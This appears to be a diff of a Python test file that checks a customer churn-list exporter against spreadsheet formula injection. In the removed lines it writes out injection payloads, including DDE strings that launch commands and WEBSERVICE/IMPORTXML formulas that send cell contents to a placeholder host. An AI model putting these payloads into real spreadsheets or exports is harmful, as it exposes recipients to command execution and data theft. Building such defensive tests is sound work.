@@ -2,8 +2,6 @@
 
 import csv
 import io
-import random
-import re
 from contextlib import closing
 
 import numpy as np
@@ -13,49 +11,14 @@ import pyarrow.parquet as pq
 import pytest
 from openpyxl.utils.escape import unescape
 
+from benchmarks.exports import PAYLOADS, details_of, generated, listed, live, summary, trial
 from features.errors import HeadwaterError
-from pipelines.delivery import addresses
+from pipelines.delivery import export
 from pipelines.delivery.export import ExportContext, write_list
 from pipelines.delivery.presets import presets
 from targeting.list_settings import ListSettings
 from targeting.ranking import ListResult, churn_list
-from tests.pipelines.delivery.test_export import cells_under, starts_formula
 from tests.scores_sample import sample_scores
-
-BODIES = (
-    "=1+1", "=HYPERLINK(\"http://x\",\"y\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1",
-    "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "＝1+1", "＋1+1", "－2+3", "＠SUM(1)",
-    "=WEBSERVICE(\"http://x\")", "\t=1", "\r=1",
-)  # fmt: skip
-STARTS = ("", "x,", "x;", "x|", "x\t", "\n", "\ufeff", "\u200b\u00a0", '"', "a\r\n\u2028")
-PAYLOADS = [start + body for start in STARTS for body in BODIES]
-LETTERS = list("=+-@＝＋－＠,;|\t\r\n\0\"' \ufeff\u200b\u00a0\u2028aZ19流失%()!")
-PLAIN = re.compile(r"-?[0-9]+(\.[0-9]+)?|\+[0-9]{6,15}(,.*)?")
-WRITTEN = {"customer_id", "tier_current", "recommended_action"}
-"""Columns whose texts come from outside."""
-BASE = churn_list(sample_scores(400), ListSettings(top=60)).rows
-
-
-def generated(count: int, seed: int) -> list[str]:
-    draw = random.Random(seed)
-    return ["".join(draw.choices(LETTERS, k=draw.randint(1, 14))) for _ in range(count)]
-
-
-def listed(texts: list[str]) -> ListResult:
-    """A list with a row per text, which stands wherever a text from outside can stand."""
-    count = len(texts)
-    rows = BASE.iloc[np.arange(count) % len(BASE)].reset_index(drop=True)
-    rows = rows.assign(rank=np.arange(1, count + 1), **{column: pd.Series(texts, dtype=object) for column in WRITTEN})
-    reason = {"code": "plan", "feature": "plan", "peer_value": "P1", "rank": 1, "direction": 1, "contribution": 0.5}
-    rows["churn_reasons"] = [[reason | {"value": text}] for text in texts]
-    result = churn_list(sample_scores(400), ListSettings(top=60))
-    return ListResult(**{**vars(result), "rows": rows})
-
-
-def live(text: str) -> list[str]:
-    """Cells that a spreadsheet would run, whatever separator it takes; numbers and telephones, which a layout declares, are none."""
-    cells = [cell for separator in ",;\t|" for cell in cells_under(text, separator)]
-    return [cell for cell in cells if starts_formula(cell) and not PLAIN.fullmatch(cell.strip('"'))]
 
 
 def check(tmp_path, texts):
@@ -114,28 +77,12 @@ def test_ten_thousand_texts_through_every_export(tmp_path):
     check(tmp_path, PAYLOADS + generated(10_000, seed=2))
 
 
-def details_of(texts: list[str], ids: pd.Series) -> pd.DataFrame:
-    """Contact details in which every text comes from outside, as the join makes them."""
-    told = pd.Series(texts, index=ids, dtype=object)
-    safe = told.map(lambda text: addresses.phone(text, "+86"))
-    mails = told.map(lambda text: addresses.email(f"{text}@example.com"))
-    names = dict.fromkeys(("contact_name", "phone", "email"), told)
-    return pd.DataFrame(
-        names
-        | {
-            "phone_e164": safe,
-            "phone_digits": safe.str[1:],
-            "email_safe": mails.where(mails.notna(), "u" + told.index + "@example.com"),
-        }
-    )
-
-
 def test_contact_details_are_live_in_no_export(tmp_path):
     """People read texts as they are, machines get numbers and addresses or nothing: no file is stopped by a hostile name."""
     texts = PAYLOADS + generated(30, seed=3) + ["138 0013 8000"]
     ids = [f"{n:06d}" for n in range(len(texts))]
     result = listed(ids)
-    context = ExportContext(details=details_of(texts, pd.Series(ids, dtype=object)))
+    context = ExportContext(details=details_of(texts, ids))
     for name, shape in presets().items():
         write_list(result, tmp_path / name, name, context)
         sources = [column.source for column in shape.of("churn", contacts=True).columns]
@@ -185,3 +132,11 @@ def test_numbers_and_ids_are_read_back_as_they_were(tmp_path, name):
             assert np.array_equal(told, own.to_numpy(np.float32), equal_nan=True), column.source
         elif column.source in ("customer_id", "value_at_risk", "value_12m_pred"):
             assert read.tolist() == [str(value) for value in own], column.source
+
+
+def test_the_benchmark_counts_what_a_guard_that_looks_at_the_start_alone_lets_through(tmp_path, monkeypatch):
+    """And nothing of the guard as it is."""
+    assert trial("csv-excel-en", tmp_path, PAYLOADS, contacts=True).live == 0
+    monkeypatch.setattr(export, "safe_cell", lambda text: f"'{text}" if text[:1] in "=+-@" else text)
+    broken = trial("csv-excel-en", tmp_path, PAYLOADS, contacts=True)
+    assert broken.live > 0 and summary([broken])["live"] == broken.live
